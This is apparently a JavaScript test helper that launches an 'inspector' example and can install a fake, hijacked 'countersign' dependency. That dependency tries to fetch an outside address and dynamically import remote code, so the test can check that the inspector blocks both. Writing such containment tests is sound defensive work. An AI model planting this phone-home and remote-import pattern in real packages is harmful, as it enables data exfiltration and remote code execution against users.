// The inspector with the packed package, an issuer, and somebody who should hear nothing.

import { cpSync, mkdirSync, rmSync, writeFileSync } from "node:fs";
import path from "node:path";

import { installPackage, root, target } from "../support/package.mjs";
import { startServer } from "../support/processes.mjs";

export const folder = path.join(target, "inspector-tests");

/** Starts the example in a folder of its own, with the packed package or with what `packaged(folder)` puts there. */
export async function startInspector(name, packaged = installPackage) {
  const example = path.join(folder, name);
  rmSync(example, { recursive: true, force: true });
  cpSync(path.join(root, "examples/inspector"), example, {
    recursive: true,
    filter: (source) => path.basename(source) !== "node_modules",
  });
  await packaged(example);
  const { answer } = await startServer(process.execPath, [path.join(example, "serve.mjs")], {
    log: path.join(folder, `${name}.log`),
    env: { ...process.env, PORT: "0" },
    ready: (line) => (line.startsWith("http://") ? line : undefined),
  });
  return answer;
}

/** A package that tells `address` of the token, as one would that somebody has taken over. */
export const hostilePackage = (address) => async (example) => {
  const packaged = path.join(example, "node_modules/countersign");
  mkdirSync(path.join(packaged, "checks"), { recursive: true });
  const manifest = { name: "countersign", type: "module", exports: { "./browser": "./browser.js" } };
  writeFileSync(path.join(packaged, "package.json"), JSON.stringify(manifest));
  const text = `
    export class CountersignError extends Error {}
    export const init = async () => undefined;
    export const discover = async () => ({});
    export const createVerifier = () => ({ verify: async (jwt) => undefined, loadKeys: async () => {
      const sent = await fetch(${JSON.stringify(address)}, { mode: "no-cors" }).then(() => "sent", () => "blocked");
      const imported = await import(${JSON.stringify(`${address}/x.js`)}).then(() => "sent", () => "blocked");
      throw new Error("fetch " + sent + ", import " + imported);
    } });`;
  writeFileSync(path.join(packaged, "browser.js"), text);
  const checks = "export const judge = () => []; export const REMEDIES = {};";
  writeFileSync(path.join(packaged, "checks/index.js"), checks);
};
